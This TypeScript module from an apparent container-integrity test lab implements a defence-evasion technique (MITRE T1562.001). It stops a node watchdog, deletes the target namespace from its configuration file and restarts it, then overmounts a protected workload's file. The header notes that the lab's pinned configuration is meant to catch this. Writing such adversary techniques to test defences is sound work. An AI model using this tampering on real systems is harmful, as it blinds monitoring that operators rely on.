/**
 * Attack (T1562.001 Impair Defenses: Disable or Modify Tools): root on the
 * node stops the watchdog, edits its configuration (watchdog.json) so that
 * no entry matches the target's namespace any more, and starts the watchdog
 * again exactly as it was started. A watchdog that believed the edited file
 * would not watch that namespace: root then overmounts a file of the
 * protected workload (the gates are intact, so the workload passes them) and
 * nothing is reported but the file change, which names no workload.
 *
 * What must catch it: the restarted watchdog, which runs with the
 * configuration the lab pinned at lab start when the file differs from it
 * (lab/watchdog/defences.ts configToRun), and so still sees the overmount.
 */
import { globMatch } from '../../gates/config.ts';
import type { LabNodeHandle } from '../../node/index.ts';
import type { Technique } from '../technique.ts';
import { readNodeText, writeNodeText } from './defence-tamper.ts';
import { overmountNsenter } from './overmount-nsenter.ts';
import { tryStart } from './start.ts';
import { startWatchdog, stopWatchdog } from './watchdog-restart-launder.ts';

export const WATCHDOG_JSON = '/etc/integrity-lab/watchdog.json';

/** Removes every entry of watchdog.json that matches `namespace`; evidence of the change, or that there is no watchdog. */
export async function unwatchNamespace(node: LabNodeHandle, namespace: string): Promise<Record<string, unknown>> {
  const text = await readNodeText(node, WATCHDOG_JSON);
  if (text === undefined) return { watchdogConfig: 'none on this node' };
  const config = JSON.parse(text) as { namespaces: { match: string; mode: string }[] };
  let kept = config.namespaces.filter((n) => !globMatch(n.match, namespace));
  // The watchdog refuses an empty list; a namespace nobody uses keeps it starting.
  if (kept.length === 0) kept = [{ match: 'attacker-unused', mode: 'detect' }];
  await writeNodeText(node, WATCHDOG_JSON, JSON.stringify({ ...config, namespaces: kept }, null, 2));
  return { watchdogConfig: WATCHDOG_JSON, namespaces: { before: config.namespaces, after: kept } };
}

export const watchdogConfigUnwatch: Technique = {
  name: 'watchdog-config-unwatch',
  async run(ctx) {
    const { node, workload, pods } = ctx;
    const stopped = await stopWatchdog(node);
    const evidence: Record<string, unknown> = { watchdog: stopped ? { stoppedPid: stopped.pid, commandLine: stopped.argv } : 'none on this node' };
    Object.assign(evidence, await unwatchNamespace(node, workload.spec.namespace));
    if (stopped) evidence.restartedPid = (await startWatchdog(node, stopped.argv, stopped.pid)) ?? 'did not write its pid file within 15 s';
    const start = await tryStart(node, workload, pods);
    if (!start.started) throw new Error(`the workload ${workload.metadata.name} did not start (${start.stage}): ${start.reason}; the attack needs it running`);
    const what = stopped ? `the watchdog was stopped, ${workload.spec.namespace} taken out of ${WATCHDOG_JSON} and the watchdog started again` : 'no watchdog on this node';
    const overmount = await overmountNsenter.run(ctx);
    return { ...overmount, reason: `${what}; ${overmount.reason}`, evidence: { ...evidence, ...overmount.evidence } };
  },
};
